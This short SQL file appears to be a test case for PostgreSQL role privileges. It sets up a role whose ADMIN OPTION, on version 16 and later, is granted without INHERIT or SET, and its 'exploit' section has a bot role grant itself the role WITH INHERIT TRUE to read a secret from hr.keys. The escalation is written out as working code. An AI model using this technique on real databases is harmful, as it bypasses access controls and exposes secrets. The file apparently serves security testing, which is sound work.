-- about: ADMIN OPTION on a role of which the role is no real member: it makes itself one
-- claim: read-table SELECT hr.keys
-- seed
CREATE ROLE PREFIXvault;
CREATE TABLE hr.keys (secret text);
INSERT INTO hr.keys VALUES ('secret-key');
GRANT USAGE ON SCHEMA hr TO PREFIXvault;
GRANT SELECT ON hr.keys TO PREFIXvault;
DO $$
BEGIN
    IF pg_catalog.current_setting('server_version_num')::pg_catalog.int4 >= 160000 THEN
        EXECUTE 'GRANT PREFIXvault TO PREFIXbot WITH ADMIN TRUE, INHERIT FALSE, SET FALSE';
    ELSE
        GRANT PREFIXvault TO PREFIXbot WITH ADMIN OPTION;
    END IF;
END
$$;
-- exploit
DO $$
BEGIN
    IF pg_catalog.current_setting('server_version_num')::pg_catalog.int4 >= 160000 THEN
        EXECUTE 'GRANT PREFIXvault TO PREFIXbot WITH INHERIT TRUE';
    END IF;
END
$$;
SELECT secret LIKE 'secret%' FROM hr.keys;
